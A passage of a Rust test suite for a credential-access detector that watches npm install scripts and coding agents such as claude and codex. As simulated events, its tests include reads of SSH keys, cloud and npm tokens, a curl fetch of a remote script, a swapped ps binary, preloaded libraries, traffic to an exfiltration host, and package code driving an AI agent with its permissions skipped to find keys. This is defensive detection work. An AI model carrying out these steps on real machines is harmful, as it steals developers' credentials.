    exec_in(&mut run, 100, 1, &["npm", "install"], GITHUB, &pod_cgroups);
    // The postinstall's shell has CI variables of its own: only the root's count.
    run.fork(100, 101);
    exec_in(
        &mut run,
        101,
        100,
        &["sh", "-c", "node x.js"],
        &[("GITHUB_JOB", "other"), ("npm_package_name", "evil")],
        &[],
    );
    // A fork that has not executed: its parent's container.
    run.fork(101, 102).open(102, "/home/alice/.npmrc");
    let alert = run.one();
    assert_eq!(alert.host.id.as_deref(), Some("4c4c4544004d3510804bb2c04f4e3632"));
    let json = serde_json::to_value(&alert).unwrap();
    assert_eq!(json["agent"], serde_json::json!({"version": "0.1.0"}));
    assert_eq!(json["container"], serde_json::json!({"id": CONTAINER, "runtime": "containerd"}));
    assert_eq!(json["orchestrator"], serde_json::json!({"type": "kubernetes", "resource": {"type": "pod", "id": POD}}));
    assert_eq!(
        json["ci"],
        serde_json::json!({"provider": "github", "repository": "octo/app", "workflow": "CI", "run_id": "4242",
                           "job": "test", "runner": "runner-1"})
    );
    assert_eq!(serde_json::from_value::<Alert>(json).unwrap(), alert);
}

#[test]
fn a_host_process_has_no_container_fields_and_an_exec_elsewhere_moves_it() {
    let mut run = Run::new();
    let host = ["/user.slice/user-1000.slice/session-2.scope".to_owned(), "/".to_owned()];
    exec_in(&mut run, 100, 1, &["npm", "install"], &[], &host);
    run.fork(100, 101);
    exec_in(&mut run, 101, 100, &["node", "x.js"], POSTINSTALL, &host);
    run.open(101, "/home/alice/.npmrc");
    let json = serde_json::to_value(run.one()).unwrap();
    for field in ["container", "orchestrator", "ci", "agent"] {
        assert!(json.get(field).is_none(), "{field}: {json}");
    }
    assert_eq!(json["host"], serde_json::json!({"name": "box"}));
    // It moved itself into a container's cgroup, then executed: the exec's cgroups tell.
    exec_in(&mut run, 101, 100, &["node", "y.js"], POSTINSTALL, &[format!("/docker/{CONTAINER}")]);
    run.open(101, "/home/alice/.ssh/id_rsa");
    let alert = run.one();
    assert_eq!(alert.container.map(|c| (c.id, c.runtime)), Some((CONTAINER.to_owned(), Some("docker".to_owned()))));
    assert_eq!(alert.orchestrator, None);
}

#[test]
fn a_container_a_trace_states_wins_over_cgroups_and_forks_inherit_it() {
    let mut run = Run::new();
    let stated = crate::container::stated(&format!("cri-o://{CONTAINER}"), Some(POD), Some("build-1"), Some("ci"));
    run.send(
        100,
        EventData::Exec(Exec {
            ppid: 1,
            filename: "npm".into(),
            executable: "npm".into(),
            args: vec!["npm".into(), "install".into()],
            cwd: "/home/alice/app".into(),
            uid: 1000,
            // Another container's path: what the trace states is what counts.
            cgroups: vec![format!("/docker/{}", "0".repeat(64))],
            stated_container: stated,
            ..Exec::default()
        }),
    );
    run.fork(100, 101);
    exec_in(&mut run, 101, 100, &["node", "x.js"], POSTINSTALL, &[]);
    run.open(101, "/home/alice/.npmrc");
    let json = serde_json::to_value(run.one()).unwrap();
    assert_eq!(json["container"], serde_json::json!({"id": CONTAINER, "runtime": "cri-o"}));
    assert_eq!(
        json["orchestrator"],
        serde_json::json!({"type": "kubernetes", "namespace": "ci",
                           "resource": {"type": "pod", "id": POD, "name": "build-1"}})
    );
}

#[test]
fn identity_fields_leave_the_alert_id_as_it_was() {
    let alert = || {
        let mut run = Run::new();
        exec_in(&mut run, 100, 1, &["npm", "install"], GITHUB, &[format!("/docker/{CONTAINER}")]);
        run.fork(100, 101);
        exec_in(&mut run, 101, 100, &["node", "x.js"], POSTINSTALL, &[]);
        run.open(101, "/home/alice/.npmrc");
        run.one()
    };
    let with = alert();
    assert!(with.container.is_some() && with.ci.is_some());
    let mut without = with.clone();
    (without.container, without.ci, without.host.id) = (None, None, Some("other".into()));
    assert_eq!(with.event.id, without.stable_id());
}

/// A stand-in coding agent: `claude` started by the developer's shell (pid 1) in the project
/// `/home/alice/app`.
fn claude() -> Run {
    let mut run = Run::new();
    run.exec_full(100, 1, "/home/alice/.local/bin/claude", &["claude"], "/home/alice/app", &[("HOME", "/home/alice")]);
    run
}

#[test]
fn an_agent_tool_reading_another_credential_names_the_agent_and_the_command() {
    let mut run = claude();
    run.spawn(101, 100, &["bash", "-c", "cat ~/.ssh/id_ed25519"], &[])
        .spawn(102, 101, &["cat", "/home/alice/.ssh/id_ed25519"], &[])
        .open(102, "/home/alice/.ssh/id_ed25519");
    let alert = run.one();
    assert_eq!(alert.rule.id, "ssh-private-keys");
    assert_eq!(alert.process.pid, 102);
    assert_eq!(alert.credwatch.root_pid, 100);
    let agent = alert.coding_agent.as_ref().expect("names the agent");
    assert_eq!((agent.name.as_str(), agent.pid), ("claude", 100));
    assert_eq!(agent.command.as_deref().unwrap(), ["bash", "-c", "cat ~/.ssh/id_ed25519"]);
    assert_eq!(alert.package.manager, "run");
    let text = crate::output::render(&alert, false);
    assert!(text.starts_with("[CRITICAL] agent claude opened /home/alice/.ssh/id_ed25519"), "{text}");
    assert!(text.contains("\n  agent    claude[100] ran bash -c cat ~/.ssh/id_ed25519\n"), "{text}");
    let json = serde_json::to_value(&alert).unwrap();
    assert_eq!(json["coding_agent"]["name"], "claude");
    assert_eq!(json["package"]["manager"], "run", "existing fields stay");

    // The agent itself reading another process's environment.
    run.open(100, "/proc/4242/environ");
    let alert = run.one();
    assert_eq!(alert.rule.id, "proc-environ-mem");
    assert_eq!(alert.coding_agent.unwrap().command, None);
}

#[test]
fn an_agent_reading_its_own_credentials_and_the_project_is_quiet() {
    let mut run = claude();
    run.open(100, "/home/alice/.claude/.credentials.json")
        .open(100, "/home/alice/.claude.json")
        .spawn(101, 100, &["cat", "/home/alice/.claude/.credentials.json"], &[])
        .open(101, "/home/alice/.claude/.credentials.json")
        // The project's own secrets are the project's: the developer asked the agent in.
        .open(101, "/home/alice/app/.env")
        .spawn(102, 100, &["curl", "-fsSL", "https://example.com/x.sh"], &[]);
    assert!(run.take().is_empty());
    // Out of the project, the same kind of file is another credential.
    run.open(101, "/home/alice/other/.env");
    assert_eq!(run.one().rule.category, "env-files");
    // Another agent's credentials are another credential.
    run.open(101, "/home/alice/.codex/auth.json");
    assert_eq!(run.one().rule.id, "ai-tool-credentials");
}

/// `FILE ARGS` forked by an npm postinstall's shell (pid 101) as pid 102.
fn in_a_postinstall(file: &str, args: &[&str]) -> Run {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(101, 100, &["sh", "-c", "ps aux > /dev/null"], POSTINSTALL)
        .fork(101, 102)
        .exec_full(102, 101, file, args, "/home/alice/app", &[]);
    run
}

/// What procps's `ps` opens as installed before it walks `/proc` (strace of `ps aux`, Debian 12).
const PS_OPENS: &[&str] = &[
    "/etc/ld.so.cache",
    "/usr/lib/x86_64-linux-gnu/libproc2.so.0",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.cache",
    "/usr/lib/locale/C.utf8/LC_CTYPE",
    "/usr/share/locale/locale.alias",
    "/etc/nsswitch.conf",
    "/etc/passwd",
    "/dev/tty",
    "/sys/devices/system/cpu/possible",
    "/proc",
];

/// `ps` walking `/proc` the way procps 4 does: each process's stat, status, cmdline and environ.
fn walk(run: &mut Run, pid: u32, victims: &[u32]) {
    for victim in victims {
        for file in ["stat", "status", "cmdline", "environ"] {
            run.open(pid, &format!("/proc/{victim}/{file}"));
        }
    }
}

#[test]
fn the_installed_ps_walking_every_environ_is_one_low_alert() {
    let mut run = in_a_postinstall("/usr/bin/ps", &["ps", "aux"]);
    for path in PS_OPENS {
        run.open(102, path);
    }
    walk(&mut run, 102, &[1, 100, 1733, 4242]);
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("proc-environ-mem", Severity::Low));
    assert_eq!(alert.file.as_ref().unwrap().path, "/proc/1/environ");
    let why = alert.credwatch.why.as_deref().unwrap();
    assert!(why.starts_with("ps listing processes"), "{why}");
    assert_eq!(alert.package.name.as_deref(), Some("evil-pkg"));
    // Its next walk in the same tree is counted, not told again; `ps -ef` is the same walk.
    walk(&mut run, 102, &[1, 1733]);
    run.fork(101, 103).exec_full(103, 101, "/bin/ps", &["ps", "-ef", "--sort=-etime", "-o", "pid,user"], "/", &[]);
    walk(&mut run, 103, &[1, 1733]);
    assert!(run.take().is_empty());
}

#[test]
fn environ_reads_that_are_not_the_installed_ps_listing_stay_critical() {
    const WRITE: u64 = (libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC) as u64;
    let critical = |mut run: Run, pid: u32, what: &str| {
        run.open(pid, "/proc/1733/environ");
        // (A ps the tree wrote is `exec-of-written-file` too.)
        let alerts: Vec<Alert> = run.take().into_iter().filter(|a| a.rule.id == "proc-environ-mem").collect();
        assert_eq!(alerts.len(), 1, "{what}: {alerts:#?}");
        assert_eq!((alerts[0].rule.severity, alerts[0].credwatch.why.as_deref()), (Severity::Critical, None), "{what}");
    };
    // Package code reading one chosen process's environment or memory itself.
    critical(in_a_postinstall("/usr/bin/python3", &["python3", "-c", "open('/proc/1733/environ')"]), 102, "python");
    let mut run = in_a_postinstall("/usr/bin/ps", &["ps", "aux"]);
    run.fork(101, 103).exec_full(103, 101, "/usr/bin/cat", &["cat", "/proc/1733/environ"], "/", &[]);
    critical(run, 103, "cat next to ps");
    // ps asked to print every environment (BSD `e`) hands them to its caller.
    for args in [&["ps", "eww"][..], &["ps", "auxe"], &["ps", "-p", "1733", "e"], &["ps", "axeww", "-o", "pid"]] {
        critical(in_a_postinstall("/usr/bin/ps", args), 102, &args.join(" "));
    }
    // A `ps` that is not the installed one: the package's own, one elsewhere, one the tree
    // wrote over the installed one.
    critical(in_a_postinstall("/home/alice/app/node_modules/.bin/ps", &["ps", "aux"]), 102, "node_modules/.bin/ps");
    critical(in_a_postinstall("/usr/local/bin/ps", &["ps", "aux"]), 102, "/usr/local/bin/ps");
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(101, 100, &["sh", "-c", "cp ./ps /usr/bin/ps && ps aux"], POSTINSTALL)
        .open_full(101, "/usr/bin/ps", Some("/usr/bin/ps"), 3, WRITE)
        .fork(101, 102)
        .exec_full(102, 101, "/usr/bin/ps", &["ps", "aux"], "/home/alice/app", &[]);
    critical(run, 102, "ps written over the installed one");
    // The installed ps made to load a library (LD_PRELOAD, LD_LIBRARY_PATH): one the package
    // shipped (unpacked by npm itself), one in /dev/shm, one the tree wrote into the system's
    // library directory.
    for library in ["/home/alice/app/node_modules/evil-pkg/build/env.so", "/dev/shm/x.so"] {
        let mut run = in_a_postinstall("/usr/bin/ps", &["ps", "aux"]);
        run.open(102, "/usr/lib/x86_64-linux-gnu/libc.so.6").open(102, library);
        critical(run, 102, library);
    }
    let mut run = in_a_postinstall("/usr/bin/ps", &["ps", "aux"]);
    run.open_full(101, "/usr/lib/x86_64-linux-gnu/libx.so", Some("/usr/lib/x86_64-linux-gnu/libx.so"), 3, WRITE)
        .open(102, "/usr/lib/x86_64-linux-gnu/libx.so");
    critical(run, 102, "a library the tree wrote");
    // What the shell opened before it executed ps is not ps's.
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(101, 100, &["sh", "-c", "ps aux > /tmp/out"], POSTINSTALL)
        .fork(101, 102)
        .open_full(102, "/tmp/out", Some("/tmp/out"), 3, WRITE)
        .exec_full(102, 101, "/usr/bin/ps", &["ps", "aux"], "/home/alice/app", &[])
        .open(102, "/proc/1733/environ");
    assert_eq!(run.one().rule.severity, Severity::Low);
}

#[test]
fn claude_codes_ide_probe_is_a_low_ps_walk_of_the_agent() {
    let mut run = claude();
    run.spawn(101, 100, &["/bin/sh", "-c", "ps aux | grep -E \"code|cursor|windsurf\" | grep -v grep"], &[])
        .fork(101, 102)
        .exec_full(102, 101, "/usr/bin/ps", &["ps", "aux"], "/home/alice/app", &[]);
    for path in PS_OPENS {
        run.open(102, path);
    }
    walk(&mut run, 102, &[1, 100, 101, 1733]);
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("proc-environ-mem", Severity::Low));
    assert_eq!(alert.coding_agent.as_ref().unwrap().name, "claude");
    let text = crate::output::render(&alert, false);
    assert!(text.starts_with("[LOW] agent claude opened /proc/1/environ\n"), "{text}");
    assert!(text.contains("\n  why      ps listing processes"), "{text}");
    // The agent reading one process's environment itself stays critical.
    run.open(100, "/proc/1733/environ");
    assert_eq!(run.one().rule.severity, Severity::Critical);
}

#[test]
fn git_an_agent_runs_for_itself_is_told_in_the_agents_words() {
    let git_reading_netrc = |run: &mut Run, parent: u32| {
        let (git, remote) = (parent + 1, parent + 2);
        let url = "https://github.com/openai/codex-plugins.git";
        run.fork(parent, git)
            .exec_full(git, parent, "/usr/bin/git", &["git", "ls-remote", url, "HEAD"], "/home/alice/app", &[])
            .fork(git, remote)
            .exec_full(remote, git, "/usr/lib/git-core/git-remote-https", &["git-remote-https", url, url], "/", &[])
            .open(remote, "/home/alice/.netrc");
        run.one()
    };
    // Codex's plugin sync: `git ls-remote`, whose curl reads ~/.netrc.
    let mut run = Run::new();
    run.exec_full(
        100,
        1,
        "/usr/bin/codex",
        &["codex", "exec", "fix the tests"],
        "/home/alice/app",
        &[("HOME", "/home/alice")],
    );
    let alert = git_reading_netrc(&mut run, 100);
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("netrc", Severity::Low));
    assert_eq!(
        alert.credwatch.why.as_deref(),
        Some("git/git-remote-https/git-remote-http started by the coding agent codex itself, for its own work (not package code)")
    );
    let text = crate::output::render(&alert, false);
    assert!(text.starts_with("[LOW] agent codex opened /home/alice/.netrc\n"), "{text}");
    assert!(text.contains("\n  agent    codex[100] ran git ls-remote "), "{text}");
    assert_eq!(
        alert.rule.description,
        "codex or a tool it ran opened ~/.netrc, which holds logins for HTTP and FTP hosts."
    );
    assert!(!text.contains("package manager") && !text.contains("npm"), "{text}");
    // The same git under a package manager is the manager's.
    let mut run = Run::new();
    run.exec(200, 1, &["npm", "install"], &[]);
    let alert = git_reading_netrc(&mut run, 200);
    assert_eq!(
        alert.credwatch.why.as_deref(),
        Some("git/git-remote-https/git-remote-http started by the package manager itself (e.g. for a git dependency)")
    );
    assert!(crate::output::render(&alert, false).starts_with("[LOW] npm package code opened /home/alice/.netrc\n"));
    assert!(alert.rule.description.starts_with("Package code opened ~/.netrc"));
}

#[test]
fn the_same_reads_outside_an_agent_tree_or_by_another_agent() {
    // Not under an agent nor a manager: nothing is watched.
    let mut run = Run::new();
    run.exec(50, 1, &["cat", "/home/alice/.ssh/id_ed25519"], &[]).open(50, "/home/alice/.ssh/id_ed25519");
    assert!(run.take().is_empty());
    // Codex reading Claude Code's token.
    run.exec_full(60, 1, "/usr/bin/codex", &["codex", "exec", "x"], "/home/alice/app", &[("HOME", "/home/alice")])
        .open(60, "/home/alice/.claude/.credentials.json");
    let alert = run.one();
    assert_eq!(alert.rule.id, "ai-tool-credentials");
    assert_eq!(alert.coding_agent.unwrap().name, "codex");
    run.open(60, "/home/alice/.codex/auth.json");
    assert!(run.take().is_empty());
}

#[test]
fn agents_write_their_own_settings_but_not_another_agents_hooks() {
    const WRITE: u64 = (libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC) as u64;
    let mut run = claude();
    run.open_full(100, "/home/alice/.claude/settings.json", Some("/home/alice/.claude/settings.json"), 3, WRITE)
        .open_full(100, ".mcp.json", Some("/home/alice/app/.mcp.json"), 3, WRITE)
        // Other write rules are about package code: the developer may ask for a ~/.bashrc edit.
        .open_full(100, "/home/alice/.bashrc", Some("/home/alice/.bashrc"), 3, WRITE);
    assert!(run.take().is_empty());
    run.open_full(100, "/home/alice/.gemini/settings.json", Some("/home/alice/.gemini/settings.json"), 3, WRITE);
    let alert = run.one();
    assert_eq!(alert.rule.id, "ai-agent-config-write");
    assert_eq!(alert.coding_agent.unwrap().name, "claude");
    run.open_full(100, "/home/alice/.cursor/mcp.json", Some("/home/alice/.cursor/mcp.json"), 3, WRITE);
    assert_eq!(run.one().rule.id, "ai-agent-config-write");
}

#[test]
fn a_package_installed_by_an_agent_names_the_agent_then_the_package() {
    let mut run = claude();
    // The npm bin's shebang: `node /usr/bin/npm` in the same process.
    run.fork(100, 101)
        .exec_full(101, 100, "/usr/bin/npm", &["npm", "install", "evil-pkg"], "/home/alice/app", &[])
        .exec_full(101, 100, "/usr/bin/node", &["node", "/usr/bin/npm", "install", "evil-pkg"], "/home/alice/app", &[])
        .open(101, "/home/alice/.npmrc");
    assert!(run.take().is_empty(), "npm reading its own token");
    run.spawn(102, 101, &["sh", "-c", "node setup.js"], POSTINSTALL).spawn(103, 102, &["node", "setup.js"], &[]);
    // Package code reading the agent's own token is package code stealing it.
    run.open(103, "/home/alice/.claude/.credentials.json");
    let alert = run.one();
    assert_eq!(alert.rule.id, "ai-tool-credentials");
    run.open(103, "/home/alice/.ssh/id_ed25519");
    let alert = run.one();
    assert_eq!(alert.rule.id, "ssh-private-keys");
    assert_eq!(alert.package.manager, "npm");
    assert_eq!(alert.package.name.as_deref(), Some("evil-pkg"));
    let agent = alert.coding_agent.as_ref().unwrap();
    assert_eq!(agent.name, "claude");
    assert_eq!(agent.command.as_deref().unwrap(), ["node", "/usr/bin/npm", "install", "evil-pkg"]);
    let text = crate::output::render(&alert, false);
    assert!(
        text.starts_with("[CRITICAL] agent claude > npm package evil-pkg@1.2.3 (postinstall) opened /home/alice/.ssh/"),
        "{text}"
    );
}

#[test]
fn the_agent_bin_run_again_by_its_interpreter_is_the_same_agent() {
    let mut run = claude();
    run.exec_full(
        100,
        1,
        "/usr/bin/node",
        &["node", "/home/alice/.local/bin/claude"],
        "/home/alice/app",
        &[("HOME", "/home/alice")],
    )
    .open(100, "/home/alice/.claude/.credentials.json")
    .spawn(101, 100, &["cat", "/home/alice/.aws/credentials"], &[])
    .open(101, "/home/alice/.aws/credentials");
    let alert = run.one();
    assert_eq!(alert.coding_agent.unwrap().command.as_deref().unwrap(), ["cat", "/home/alice/.aws/credentials"]);
}

#[test]
fn an_agent_started_in_the_home_or_at_the_top_has_no_project() {
    let cases = [
        ("/", None, "/home/alice/other/.env"),
        ("/home/alice", None, "/home/alice/other/.env"),
        ("/home/alice/", Some("/home/alice"), "/home/alice/other/.env"),
        ("/srv", Some("/srv/ci"), "/srv/other/.env"),
    ];
    for (cwd, home, env_file) in cases {
        let mut run = Run::new();
        let env: Vec<(&str, &str)> = home.map(|home| ("HOME", home)).into_iter().collect();
        run.exec_full(100, 1, "/usr/bin/claude", &["claude"], cwd, &env).open(100, env_file);
        assert_eq!(run.one().rule.category, "env-files", "started in {cwd}");
    }
}

#[test]
fn an_agent_the_projects_own_code_starts_roots_its_own_agent_tree() {
    let mut run = Run::new();
    // `npm test` (the project's own code, quiet) drives the agent.
    run.exec(100, 1, &["npm", "test"], &[("HOME", "/home/alice")])
        .spawn(101, 100, &["sh", "-c", "claude -p review"], &[])
        .open(101, "/home/alice/.ssh/id_ed25519");
    assert!(run.take().is_empty(), "the project's own script is quiet");
    run.spawn(102, 101, &["claude", "-p", "review"], &[])
        .spawn(103, 102, &["cat", "/home/alice/.ssh/id_ed25519"], &[])
        .open(103, "/home/alice/.ssh/id_ed25519")
        .open(102, "/home/alice/.claude/.credentials.json");
    let alert = run.one();
    assert_eq!(alert.rule.id, "ssh-private-keys");
    assert_eq!(alert.package.manager, "run");
    assert_eq!(alert.coding_agent.unwrap().command.as_deref().unwrap(), ["cat", "/home/alice/.ssh/id_ed25519"]);
}

#[test]
fn an_agent_package_code_starts_is_package_code() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[("HOME", "/home/alice")])
        .spawn(101, 100, &["sh", "-c", "node telemetry.js"], POSTINSTALL)
        .spawn(102, 101, &["claude", "--dangerously-skip-permissions", "-p", "find keys"], &[])
        .open(102, "/home/alice/.claude/.credentials.json");
    // The Nx payload's way: the exec rule about it, then the token read, both naming both.
    let alerts = run.take();
    let rules: Vec<&str> = alerts.iter().map(|a| a.rule.id.as_str()).collect();
    assert_eq!(rules, ["ai-cli-claude-unsafe", "ai-tool-credentials"]);
    for alert in alerts {
        assert_eq!(alert.package.name.as_deref(), Some("evil-pkg"));
        let agent = alert.coding_agent.unwrap();
        assert_eq!((agent.name.as_str(), agent.command), ("claude", None));
    }
}

#[test]
fn reads_of_files_the_box_replaced_are_contained_and_have_nothing_to_rotate() {
    let hidden = ["/home/alice/.npmrc", "/home/alice/.aws/credentials", "/home/alice/.ssh/id_ed25519"];
    let contained = hidden.iter().map(|path| (*path).to_owned()).collect();
    let mut run = Run::with(EngineOptions { contained, ..EngineOptions::default() });
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["sh", "-c", "node telemetry.js"], POSTINSTALL).spawn(
        102,
        101,
        &["node", "telemetry.js"],
        &[],
    );
    run.open(102, hidden[0]);
    let mut alerts = run.take();
    run.open(102, "/home/alice/.kube/config");
    alerts.extend(run.take());
    let contained: Vec<(&str, bool, bool)> =
        alerts.iter().map(|a| (a.rule.id.as_str(), a.credwatch.contained, a.credwatch.rotate.is_empty())).collect();
    // A file the box did not replace (one created after it was set up) is read for real.
    assert_eq!(contained, [("npm-registry-token", true, true), ("kube-config", false, false)]);
    let json = serde_json::to_value(&alerts[0]).unwrap();
    assert_eq!(json["credwatch"]["contained"], true);
    assert!(serde_json::to_value(&alerts[1]).unwrap()["credwatch"].get("contained").is_none());
    assert!(crate::output::render(&alerts[0], false).contains("contained: the box replaced the file"));

    // A sweep is contained when every file of it was.
    let mut run = Run::with(EngineOptions {
        contained: hidden.iter().map(|path| (*path).to_owned()).collect(),
        ..EngineOptions::default()
    });
    run.exec(100, 1, &["npm", "install"], &[]).spawn(102, 100, &["node", "telemetry.js"], POSTINSTALL);
    for path in hidden {
        run.open(102, path);
    }
    let sweep = run.take().pop().unwrap();
    assert_eq!((sweep.rule.id.as_str(), sweep.credwatch.contained), ("credential-sweep", true));
    assert!(sweep.credwatch.rotate.is_empty());
    run.open(102, "/home/alice/.kube/config");
    let summary = run.engine.flush();
    assert_eq!((summary.len(), summary[0].credwatch.contained), (1, false), "{summary:#?}");
}

/// npm (100) whose postinstall (101) runs in the project /home/alice/app.
fn npm_postinstall_in_app() -> Run {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[("HOME", "/home/alice")]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
    run
}

const CHAIN_WINDOW_NS: u64 = 50_000_000;
const PROJECT_NPMRC: &str = "/home/alice/app/.npmrc";

fn severities(alerts: &[Alert]) -> Vec<(&str, &str, Severity)> {
    alerts
        .iter()
        .map(|a| (a.rule.id.as_str(), a.file.as_ref().map_or("", |f| f.path.as_str()), a.rule.severity))
        .collect()
}

#[test]
fn a_config_chains_first_read_waits_and_is_lowered_when_another_file_of_the_chain_follows() {
    let mut run = npm_postinstall_in_app();
    // A loader that finds the project's own .npmrc (`registry=` only) first.
    run.open(101, PROJECT_NPMRC);
    assert!(run.alerts.is_empty(), "held for the chain's window: {:#?}", run.alerts);
    run.time_ns += CHAIN_WINDOW_NS - 2_000;
    run.open(101, "/home/alice/.npmrc");
    let alerts = run.take();
    assert_eq!(
        severities(&alerts),
        [
            ("npm-registry-token", PROJECT_NPMRC, Severity::Low),
            ("npm-registry-token", "/home/alice/.npmrc", Severity::Low)
        ]
    );
    assert!(alerts.iter().all(|a| a.credwatch.why.as_deref().is_some_and(|why| why.contains("configuration chain"))));
    // The project's file keeps its read time: the alert waited, the read did not move.
    assert!(alerts[0].timestamp < alerts[1].timestamp);

    // A failed probe of the next file counts as a link too (npm-conf's missing global npmrc).
    let mut run = npm_postinstall_in_app();
    run.open(101, "/home/alice/.npmrc").open_full(101, "/usr/etc/npmrc", None, -2, 0);
    assert_eq!(severities(&run.take()), [("npm-registry-token", "/home/alice/.npmrc", Severity::Low)]);
}

#[test]
fn a_lone_chain_read_goes_out_high_once_its_window_closed_whatever_releases_it() {
    let high = |alerts: &[Alert]| {
        assert_eq!(severities(alerts), [("npm-registry-token", PROJECT_NPMRC, Severity::High)], "{alerts:#?}");
        assert_eq!(alerts[0].credwatch.why, None);
    };
    // Another process's event past the window: nothing can follow the read any more.
    let mut run = npm_postinstall_in_app();
    run.open(101, PROJECT_NPMRC);
    let read_ns = run.time_ns;
    assert_eq!(run.engine.held_until(), Some(read_ns + CHAIN_WINDOW_NS));
    run.time_ns = read_ns + CHAIN_WINDOW_NS - 1_000;
    run.exec(200, 1, &["ls"], &[]);
    assert!(run.alerts.is_empty(), "the window is still open");
    run.time_ns = read_ns + CHAIN_WINDOW_NS;
    run.exec(201, 1, &["ls"], &[]);
    high(&std::mem::take(&mut run.alerts));
    assert_eq!(run.engine.held_until(), None);
    // A later read of another chain file by the same process no longer lowers it, nor the later read.
    run.open(101, "/home/alice/.npmrc");
    assert!(run.take().iter().all(|a| a.rule.severity == Severity::High));

    // The live clock, with no event: not at the window's end, just past it.
    let mut run = npm_postinstall_in_app();
    run.open(101, PROJECT_NPMRC);
    let read_ns = run.time_ns;
    assert!(run.engine.tick(read_ns + CHAIN_WINDOW_NS).is_empty());
    high(&run.engine.tick(read_ns + CHAIN_WINDOW_NS + 1));
    assert!(run.engine.flush().is_empty(), "once");

    // The end of the stream.
    let mut run = npm_postinstall_in_app();
    run.open(101, PROJECT_NPMRC);
    high(&run.engine.flush());

    // The reading process's exit, within the window.
    let mut run = npm_postinstall_in_app();
    run.open(101, PROJECT_NPMRC).exit(101);
    high(&std::mem::take(&mut run.alerts));
    assert_eq!(run.engine.held_until(), None);
}

#[test]
fn a_wall_clock_stepped_back_an_hour_releases_a_held_read() {
    let mut run = npm_postinstall_in_app();
    run.open(101, PROJECT_NPMRC);
    let read_ns = run.time_ns;
    // A second back is no step (records come a little late).
    assert!(run.engine.tick(read_ns - 1_000_000_000).is_empty());
    let released = run.engine.tick(read_ns - 3_600_000_000_000);
    assert_eq!(severities(&released), [("npm-registry-token", PROJECT_NPMRC, Severity::High)]);
    assert_eq!(run.engine.held_until(), None);
}

#[test]
fn what_the_kernel_stopped_and_files_of_no_chain_are_never_held() {
    let mut run = npm_postinstall_in_app();
    run.send(
        101,
        EventData::Open(Open {
            tid: 101,
            syscall: "openat".into(),
            dirfd: AT_FDCWD,
            path: PROJECT_NPMRC.into(),
            ret: -1,
            denied: true,
            ..Open::default()
        }),
    );
    let alerts = std::mem::take(&mut run.alerts);
    assert_eq!(
        alerts.iter().map(|a| (a.rule.severity, a.event.outcome.as_str())).collect::<Vec<_>>(),
        [(Severity::High, "denied")]
    );
    run.open(101, "/home/alice/.aws/credentials");
    assert_eq!(severities(&std::mem::take(&mut run.alerts))[0].0, "aws-credentials");
    assert_eq!(run.engine.held_until(), None);
}

#[test]
fn a_chain_read_then_egress_is_still_exfiltration() {
    let connect = |run: &mut Run, pid: u32| {
        let query = crate::event::DnsQuery {
            tid: pid,
            name: "collector.exfil.invalid".into(),
            qtype: "A".into(),
            server: None,
        };
        run.send(pid, EventData::DnsQuery(query));
        let connect = crate::event::Connect {
            tid: pid,
            family: "inet".into(),
            address: Some("127.0.0.9".into()),
            port: Some(8080),
            ..crate::event::Connect::default()
        };
        run.send(pid, EventData::Connect(connect));
    };
    // A whole chain, lowered, then a send elsewhere.
    let mut run = npm_postinstall_in_app();
    run.open(101, PROJECT_NPMRC).open(101, "/home/alice/.npmrc");
    connect(&mut run, 101);
    let alerts = run.take();
    let exfiltration: Vec<&Alert> = alerts.iter().filter(|a| a.rule.id == "exfiltration").collect();
    assert_eq!(exfiltration.len(), 1, "{alerts:#?}");
    assert_eq!(exfiltration[0].rule.severity, Severity::Critical);
    assert_eq!(exfiltration[0].credwatch.credentials_touched, [PROJECT_NPMRC, "/home/alice/.npmrc"]);
    assert!(alerts.iter().filter(|a| a.rule.id == "npm-registry-token").all(|a| a.rule.severity == Severity::Low));

    // A read still held when the send comes: the exfiltration does not wait.
    let mut run = npm_postinstall_in_app();
    run.open(101, PROJECT_NPMRC);
    connect(&mut run, 101);
    let alerts = std::mem::take(&mut run.alerts);
    assert_eq!(severities(&alerts), [("exfiltration", "", Severity::Critical)]);
    assert_eq!(alerts[0].credwatch.credentials_touched, [PROJECT_NPMRC]);
    assert_eq!(severities(&run.take()), [("npm-registry-token", PROJECT_NPMRC, Severity::High)]);
}

#[test]
fn another_credential_read_ends_the_chain_so_a_sweep_forms_as_the_reads_came() {
    // One process reading every credential (`cat` of them all): ~/.npmrc goes out at its own
    // severity before the next read's alert, and the third category makes the sweep.
    let mut run = npm_postinstall_in_app();
    run.open(101, "/home/alice/.npmrc").open(101, "/home/alice/.aws/credentials");
    assert_eq!(
        severities(&std::mem::take(&mut run.alerts)),
        [
            ("npm-registry-token", "/home/alice/.npmrc", Severity::High),
            ("aws-credentials", "/home/alice/.aws/credentials", Severity::Critical)
        ]
    );
    run.open(101, "/home/alice/.ssh/id_rsa");
    let sweep = run.one().credwatch.sweep.expect("a sweep");
    assert_eq!(sweep.categories, ["cloud", "registry", "ssh"]);
    assert_eq!(sweep.files[0], "/home/alice/.npmrc");

    // A read another process holds is released by its own window, and still counts.
    let mut run = npm_postinstall_in_app();
    run.spawn(102, 100, &["node", "y.js"], POSTINSTALL);
    run.open(101, "/home/alice/.npmrc").open(102, "/home/alice/.aws/credentials").open(102, "/home/alice/.ssh/id_rsa");
    assert_eq!(run.alerts.len(), 2, "two categories while the first read is held: {:#?}", run.alerts);
    let alerts = run.take();
    let sweep = alerts.last().and_then(|a| a.credwatch.sweep.clone()).expect("a sweep once the read went out");
    assert_eq!(sweep.categories, ["cloud", "registry", "ssh"]);
}

/// The events of a session with chains, lone reads and exits.
fn chain_session() -> Vec<Event> {
    let mut events = Vec::new();
    let mut time_ns = 1_700_000_000_000_000_000;
